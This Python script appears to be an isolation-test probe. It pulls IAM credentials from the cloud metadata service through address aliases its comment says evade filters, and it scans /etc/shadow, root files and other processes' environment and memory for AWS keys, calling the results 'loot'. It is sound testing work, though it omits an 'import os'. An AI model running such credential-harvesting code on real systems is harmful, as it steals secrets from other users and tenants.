"""Reads what it can get of the role, the runner and other people, and says what it got.
ALLOWED says whether the role is its by right.
"""
import glob
import http.client
import re
import socket

# The same address as some filters do not know it.
METADATA = [(socket.AF_INET, '169.254.169.254'), (socket.AF_INET6, 'fd00:ec2::254'),
            (socket.AF_INET6, '::ffff:169.254.169.254')]
FILES = ['/run/lambda-ec2', '/run/lambda-ec2/*', '/run/lambda-ec2/*/*', '/root/*', '/root/.*', '/etc/shadow', '/etc/gshadow',
         '/proc/[0-9]*/environ', '/proc/[0-9]*/mem', '/proc/[0-9]*/fd/*', '/var/lib/lambda-ec2/ballast']
SECRETS = re.compile(rb'ASIA[A-Z2-7]{16}|SecretAccessKey|the-password-of|canary-of')
MOST = 64 << 20


def over(family, address):
    """A connection to the metadata service."""
    connection = http.client.HTTPConnection('169.254.169.254', timeout=3)
    connection.sock = socket.socket(family)
    connection.sock.settimeout(3)
    connection.sock.connect((address, 80))
    return connection


def ask(family, address, method, path, headers):
    connection = over(family, address)
    connection.request(method, path, headers=headers)
    return connection.getresponse().read().decode()


def credentials(family, address):
    role = '/latest/meta-data/iam/security-credentials/'
    token = ask(family, address, 'PUT', '/latest/api/token', {'X-aws-ec2-metadata-token-ttl-seconds': '60'})
    headers = {'X-aws-ec2-metadata-token': token}
    return ask(family, address, 'GET', role + ask(family, address, 'GET', role, headers), headers)


def memory(path):
    """What of another process's memory looks like a secret."""
    found = []
    with open(path.replace('/mem', '/maps')) as maps, open(path, 'rb') as mem:
        for line in maps:
            start, end = (int(text, 16) for text in line.split()[0].split('-'))
            if 'rw' not in line or end - start > MOST:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found += [data[max(0, at.start() - 100):at.start() + 600] for at in SECRETS.finditer(data)]
    return b'\n'.join(found)


def is_mine(path):
    """What belongs to oneself is no loot: one's own processes."""
    return path.startswith('/proc/') and os.stat('/proc/' + path.split('/')[2]).st_uid == os.geteuid() != 0


def read(path):
    if os.path.isdir(path):
        return ' '.join(os.listdir(path)).encode()
    if path.endswith('/mem'):
        return memory(path)
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, 1 << 16)
    finally:
        os.close(fd)


def loot():
    for family, address in METADATA:
        try:
            said = credentials(family, address)
            say('role' if ALLOWED else 'loot', address + ('' if ALLOWED else ': ' + said))
        except (OSError, http.client.HTTPException):
            pass
    for path in [path for pattern in FILES for path in glob.glob(pattern)]:
        try:
            data = b'' if is_mine(path) else read(path)
        except OSError:
            continue
        if data.strip(b'\0'):
            say('loot', path.encode() + b': ' + data)
    say('environment', '\n'.join('%s=%s' % pair for pair in os.environ.items()))


loot()
say('looked')
